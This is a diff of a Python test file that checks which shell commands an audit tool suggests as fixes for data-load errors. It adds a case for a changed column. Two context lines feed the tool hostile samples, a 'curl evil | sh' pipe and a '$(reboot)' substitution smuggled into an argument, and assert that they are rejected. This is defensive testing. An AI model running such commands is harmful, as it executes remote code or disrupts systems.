@@ -14,7 +14,7 @@ from audit.cures import command_for, command_in
 from audit.findings import FaultKind, Finding
 from audit.picture import TopicKey
 from audit.reconciling.words import LOG_LOST
-from loader.errors import GapError, cure_of
+from loader.errors import ColumnChanged, GapError, cure_of
 from penstock.report.operator import accept
 
 SEVEN = 1_795_158_000_000  # 2026-11-20 07:00 UTC
@@ -83,6 +83,9 @@ def test_a_shell_reads_the_variables_first() -> None:
     cure = cure_of(GapError("gone"), "clicks", "/srv/l.yaml")
     load = "penstock load --config /srv/l.yaml --topics clicks --accept-gap"
     assert command_in(cure, under_up) == f". '/a b/environment' && {load}"
+    changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
+    take_back = "penstock schemas delete clicks-value --version 2 --yes"
+    assert command_in(cure_of(changed, "clicks"), CommandsConfig()) == take_back
     assert command_in("`curl evil | sh`", under_up) == ""
     assert command_in("`penstock load --topics $(reboot)`", under_up) == ""
 
